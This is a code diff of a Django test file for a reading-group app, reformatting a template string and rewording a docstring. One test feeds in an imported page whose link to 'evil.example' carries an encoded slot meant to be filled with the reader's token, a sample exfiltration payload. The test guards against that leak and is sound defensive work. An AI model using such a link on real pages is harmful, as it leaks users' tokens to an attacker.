@@ -19,7 +19,8 @@ from readinggroup.lib.stamps import MARK, Page, Stamp, slot, stamp
 from .. import factories
 
 TEMPLATES = {
-    "row.html": "{% load i18n %}<li{% if mine %} class=mine{% endif %}>{{ name }}: {{ words }}, {{ name }}{% translate 'Yes' %}</li>",
+    "row.html": "{% load i18n %}<li{% if mine %} class=mine{% endif %}>"
+    "{{ name }}: {{ words }}, {{ name }}{% translate 'Yes' %}</li>",
     "empty.html": "nothing to fill in",
 }
 LOADERS = [("django.template.loaders.locmem.Loader", TEMPLATES)]
@@ -107,7 +108,7 @@ def test_a_comment_cannot_bring_slots_of_its_own(house, as_user, name):
 
 @pytest.mark.parametrize("name", ["token", "no_such_slot"])
 def test_an_imported_text_cannot_bring_slots_of_its_own(house, as_user, name):
-    """A reading's page is kept as a stamp: a slot in the text would be filled with the reader's own token, in a link say."""
+    """A reading's page is kept as a stamp: a slot in it would be filled with the reader's own token, in a link say."""
     entity = f"&#31;{name}&#31;"
     source = f'<h1>The Well</h1><p>The rope{entity} was <a href="http://evil.example/?{entity}">new</a> and long.</p>'
     check_its_page(as_user(house.member), factories.create_reading(house.group, source, filename="well.html"))
